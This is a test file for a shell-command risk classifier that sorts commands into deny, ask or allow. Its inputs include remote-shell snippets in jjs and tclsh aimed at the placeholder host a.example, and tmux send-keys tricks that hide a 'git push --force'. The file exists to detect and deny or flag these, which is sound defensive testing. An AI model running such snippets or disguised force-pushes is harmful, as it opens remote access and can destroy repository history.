"""Lines that no shell can read are typed into the program before them, and judged as its text."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.actions import Decision
from core.risk.shell.cost import readable_length
from core.risk.shell.rules import classify_command


def codes(command: str) -> set[str]:
    return {finding.code for finding in classify_command(command).findings}


def test_what_is_typed_into_a_program_is_judged_as_program_text() -> None:
    command = "jjs\nvar s = new Socket('a.example', 1);\nnew ProcessBuilder('sh').start();"
    risk = classify_command(command)
    assert risk.decision is Decision.DENY
    assert {"remote-shell", "unparseable", "opens-interpreter"} <= codes(command)


def test_its_finding_marks_the_lines_that_cannot_be_read() -> None:
    command = "scala\nval x = f(1)\nval y = 2"
    found = [each for each in classify_command(command).findings if each.code == "unparseable"]
    assert [(each.start, each.end) for each in found] == [(6, len(command))]


def test_a_loop_that_no_shell_can_read_is_typed_text() -> None:
    command = 'tclsh\nset s [socket a.example 1];while 1 { exec "sh $s" }'
    assert readable_length(command) == len("tclsh\n")
    assert {"unparseable", "remote-shell"} <= codes(command)


def test_inside_a_quoted_script_the_same_holds() -> None:
    assert "unparseable" in codes("bash -c 'irb\nf = File.open(1)'")


@pytest.mark.parametrize(
    "command",
    [
        "ls\nbuild() {\n  make\n}\nbuild",
        "ls\nfiles=(a b)\necho done",
        "ls\nif(test -f a); then ls; fi",
        "ls\ntime(sleep 1)",
        "ls\nwhile true\ndo ls; done",
        "ls; while true; do ls; done",
        "ls\necho while 1",
        "cat <<EOF\nf(x)\nEOF",
        "ls\necho 'f(x)'",
        'ls\necho "f(x)"',
        "ls\n# see f(x)",
        "ls\n[[ a =~ f(x) ]]",
        "ls\necho a\\\nf\\(x\\)",
    ],
)
def test_brackets_that_a_shell_reads_leave_a_command_whole(command: str) -> None:
    assert readable_length(command) == len(command)


@given(st.text(alphabet="ab\n('\"$)\\ #=", max_size=30))
def test_what_is_readable_ends_at_the_end_or_at_a_line(text: str) -> None:
    length = readable_length(text)
    assert length == len(text) or (length > 0 and text[length - 1] == "\n")


@pytest.mark.parametrize(
    "command",
    [
        "tmux send-keys -t 0 -l 'git push --force'",
        "tmux send-keys -t 0 -F 'git push --force' Enter",
        "tmux send-keys -t 0 'git push --for' 'ce' Enter",
        "tmux send -t 0 git Space push Space '--force origin' Enter",
    ],
)
def test_keys_that_are_sent_are_a_command_however_they_are_told(command: str) -> None:
    assert classify_command(command).decision is Decision.ASK


@pytest.mark.parametrize(
    "command",
    [
        "tmux split-window -h -l 30% npm test",
        "tmux new-window -P -F '#{pane_id}' 'npm test'",
    ],
)
def test_plain_commands_run_in_a_window_of_their_own_unasked(command: str) -> None:
    assert classify_command(command).decision is Decision.ALLOW
